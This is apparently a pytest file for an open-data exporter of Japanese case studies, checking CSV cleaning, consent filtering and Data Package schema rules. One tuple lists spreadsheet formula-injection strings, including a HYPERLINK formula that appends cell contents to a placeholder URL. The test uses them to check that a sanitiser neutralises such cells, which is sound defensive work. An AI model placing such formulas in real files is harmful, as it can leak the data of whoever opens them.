"""Open data: machine-readable, harmless in a spreadsheet, only with consent, equal to what is printed."""

import csv
import io
import json
import re
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from msgspec.structs import replace

from casefinder.publish.content import EditionContent
from casefinder.publish.data.csvfile import clean_cell, csv_bytes
from casefinder.publish.data.files import csv_files, data_files
from casefinder.publish.data.rows import rows_of
from casefinder.publish.data.schema import CASES, INDICATORS, TABLES, THEMES
from casefinder.sheets import text_of_cell

TRIGGERS = ("=1+1", "+81-3-0000", "-2+3", "@SUM(1)", "\t=1", "\r=1", "＝1+1", '=HYPERLINK("http://x/"&A1)')


def read(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


@pytest.mark.parametrize("text", TRIGGERS)
def test_a_cell_is_never_a_formula(text: str) -> None:
    assert clean_cell(text)[0] == "'"


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("一行目\n二行目", "一行目 二行目"),
        ("①㈱見本 5㎡", "1(株)見本 5m2"),
        ("a\x00b", "ab"),
        ("−77%", "−77%"),
    ],
)
def test_cells_hold_one_line_of_plain_characters(text: str, cell: str) -> None:
    assert clean_cell(text) == cell


@given(st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc")), max_size=30))
def test_cleaning_twice_changes_nothing_but_the_apostrophe(text: str) -> None:
    once = clean_cell(text)

    assert "\n" not in once
    assert clean_cell(text_of_cell(once)) == once


def test_every_row_has_every_column_and_keys_are_unique(content: EditionContent) -> None:
    for table in TABLES:
        rows = rows_of(content, table)
        assert rows
        assert all(set(row) == {column.name for column in table.columns} for row in rows)
        keys = [tuple(row[name] for name in table.key) for row in rows]
        assert len(set(keys)) == len(keys)
        required = [column.name for column in table.columns if column.required]
        assert all(row[name] not in (None, "") for row in rows for name in required)


def test_files_are_utf8_with_crlf_and_a_marked_copy_for_excel(content: EditionContent) -> None:
    files = data_files(content)

    for name in csv_files(content):
        assert not files[name].startswith(b"\xef\xbb\xbf")
        assert files[f"excel/{name}"] == b"\xef\xbb\xbf" + files[name]
        assert files[name].count(b"\n") == files[name].count(b"\r\n")


def test_a_case_without_consent_to_open_data_is_in_no_file(content: EditionContent) -> None:
    canary = "カナリア㎡-7Q"
    case = replace(
        content.cases[0], open_data=False, title=canary, lead=canary, products=canary, background=(canary,)
    )
    closed = replace(content, cases=(case, *content.cases[1:]), theme_summaries=())

    for name, data in data_files(closed).items():
        assert "カナリア" not in data.decode(), name
        assert f"{content.slug}-01" not in data.decode(), name
    assert (
        "カナリア"
        in data_files(replace(closed, cases=(replace(case, open_data=True),)))["cases.json"].decode()
    )


def test_an_unnamed_organisation_has_no_code_and_no_reading(content: EditionContent) -> None:
    row = next(row for row in read(csv_files(content)["cases.csv"]) if row["case_number"] == "16")

    assert row["organisation_name"] == "（団体名非公表）"
    assert row["organisation_code"] == row["organisation_name_kana"] == ""


def test_a_time_is_given_as_told_and_by_the_month_where_there_is_one(content: EditionContent) -> None:
    first, second, *rest = content.cases
    first = replace(first, started="2024年度", open_data=True)
    second = replace(second, started="2024年6月頃", open_data=True)
    rows = rows_of(replace(content, cases=(first, second, *rest)), CASES)
    told = {row["case_number"]: (row["started"], row["started_text"]) for row in rows}

    assert told[first.number] == (None, "2024年度")
    assert told[second.number] == ("2024-06", "2024年6月頃")


def test_unknown_cost_is_empty_and_no_cost_is_zero(content: EditionContent) -> None:
    opened = replace(content, cases=tuple(replace(case, open_data=True) for case in content.cases))
    rows = {row["case_number"]: row for row in read(csv_bytes(CASES, rows_of(opened, CASES)))}

    assert rows["10"]["initial_cost_thousand_yen"] == ""
    assert rows["16"]["yearly_cost_thousand_yen"] == "0"


def test_every_number_printed_in_the_table_of_effects_equals_the_data(content: EditionContent) -> None:
    rows = read(csv_files(content)["case_indicators.csv"])
    printed = {(f"{content.slug}-{c.code}", str(i)): e for c in content.cases if c.open_data for i, e in enumerate(c.effects, 1)}  # fmt: skip

    assert {(row["case_id"], row["row"]) for row in rows} == set(printed)
    for row in rows:
        effect = printed[row["case_id"], row["row"]]
        assert (row["before_text"], row["after_text"]) == (effect.before, effect.after)
        if row["after_value"]:
            assert Decimal(row["after_value"]) == effect.after_value
            assert row["after_value"].rstrip("0").rstrip(".") in effect.after


def test_tags_have_a_row_each(content: EditionContent) -> None:
    rows = [row for row in read(csv_files(content)["case_themes.csv"]) if row["case_id"].endswith("-05")]

    assert [row["label"] for row in rows if row["scheme"] == "field"] == ["医療介護健康", "交通・物流"]


def test_the_package_and_the_definitions_describe_every_column(content: EditionContent) -> None:
    files = data_files(content)
    package = json.loads(files["datapackage.json"])

    described = {
        resource["path"]: [f["name"] for f in resource["schema"]["fields"]]
        for resource in package["resources"]
    }
    assert described == {table.name: [column.name for column in table.columns] for table in TABLES}
    assert len(read(files["definitions.csv"])) == sum(len(table.columns) for table in TABLES)
    for column in (*CASES.columns, *THEMES.columns, *INDICATORS.columns):
        assert column.name in files["definitions.html"].decode()


def test_json_holds_the_long_texts_that_csv_does_not(content: EditionContent) -> None:
    cases = json.loads(data_files(content)["cases.json"])["cases"]

    assert len(cases) == 15
    assert cases[0]["background"] == list(content.cases[0].background)
    assert "open_data" not in cases[0]


@pytest.mark.parametrize("sign", ["－", "-", "＋", "+"])
def test_a_sign_that_stands_alone_stays_as_it_is(sign: str) -> None:
    assert clean_cell(sign) == sign
    assert text_of_cell(clean_cell(sign)) == sign


@pytest.mark.parametrize("slug", ["2026-2", "2026", "1", "12-05", "mar-1", "dec-5-26", "1e5"])
def test_no_identifier_is_a_date_or_a_number_to_a_spreadsheet(content: EditionContent, slug: str) -> None:
    rows = read(csv_files(replace(content, slug=slug))["cases.csv"])

    for row in rows:
        assert row["edition"] == f"edition-{slug}"
        assert row["case_id"] == f"edition-{slug}-{int(row['case_number']):02d}"


@pytest.mark.parametrize("slug", ["dx-2026-1", "casebook", "may-fair2"])
def test_a_name_that_is_no_date_is_the_identifier(content: EditionContent, slug: str) -> None:
    assert {row["edition"] for row in read(csv_files(replace(content, slug=slug))["cases.csv"])} == {slug}


def test_each_case_of_the_data_says_its_licence(content: EditionContent) -> None:
    assert {row["licence"] for row in read(csv_files(content)["cases.csv"])} == {"CC BY 4.0"}
    for case in json.loads(data_files(content)["cases.json"])["cases"]:
        assert (case["licence"], case["licence_url"]) == ("CC BY 4.0", content.licence_url)


class TestDataPackage:
    """The rules of Data Package v1 (profiles data-package, tabular-data-package, tabular-data-resource, table-schema)."""

    INSTANT = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(?:\.\d+)?(?:Z|[+-]\d\d:\d\d)")
    NAME = re.compile(r"[-a-z0-9._/]+")
    TYPES = frozenset(
        {
            "string",
            "number",
            "integer",
            "date",
            "time",
            "datetime",
            "year",
            "yearmonth",
            "boolean",
            "object",
            "any",
        }
    )

    @pytest.fixture
    def package(self, content: EditionContent) -> dict:
        return json.loads(data_files(content)["datapackage.json"])

    def test_the_package_says_when_it_was_made_as_an_instant(self, package: dict) -> None:
        assert self.INSTANT.fullmatch(package["created"])

    def test_the_package_has_a_name_and_a_profile(self, package: dict) -> None:
        assert self.NAME.fullmatch(package["name"])
        assert package["profile"] == "tabular-data-package"

    def test_a_licence_has_a_name_without_blanks(self, package: dict) -> None:
        for licence in package["licenses"]:
            assert re.fullmatch(r"[-a-zA-Z0-9._]+", licence["name"])
            assert licence["path"].startswith("https://")

    def test_a_contributor_has_a_title_and_a_known_role(self, package: dict) -> None:
        for each in package["contributors"]:
            assert each["title"]
            assert each["role"] in {"publisher", "author", "maintainer", "wrangler", "contributor"}

    def test_each_resource_is_tabular_and_finds_its_file(
        self, package: dict, content: EditionContent
    ) -> None:
        files = data_files(content)
        names = [resource["name"] for resource in package["resources"]]
        assert len(set(names)) == len(names)
        for resource in package["resources"]:
            assert resource["profile"] == "tabular-data-resource"
            assert self.NAME.fullmatch(resource["name"])
            assert resource["path"] in files
            assert resource["encoding"] == "utf-8"

    def test_each_value_is_of_the_type_its_field_has(self, package: dict, content: EditionContent) -> None:
        shapes = {
            "integer": r"-?\d+", "number": r"-?\d+(?:\.\d+)?", "date": r"\d{4}-\d\d-\d\d", "yearmonth": r"\d{4}-\d\d",
        }  # fmt: skip
        for resource in package["resources"]:
            fields = resource["schema"]["fields"]
            assert {field["type"] for field in fields} <= self.TYPES
            rows = read(data_files(content)[resource["path"]])
            assert set(resource["schema"]["primaryKey"]) <= {field["name"] for field in fields}
            keys = [tuple(row[name] for name in resource["schema"]["primaryKey"]) for row in rows]
            assert len(set(keys)) == len(keys)
            for row in rows:
                for field in fields:
                    value = row[field["name"]]
                    assert value or not field["constraints"]["required"]
                    if value and field["type"] in shapes:
                        assert re.fullmatch(shapes[field["type"]], value), (field["name"], value)
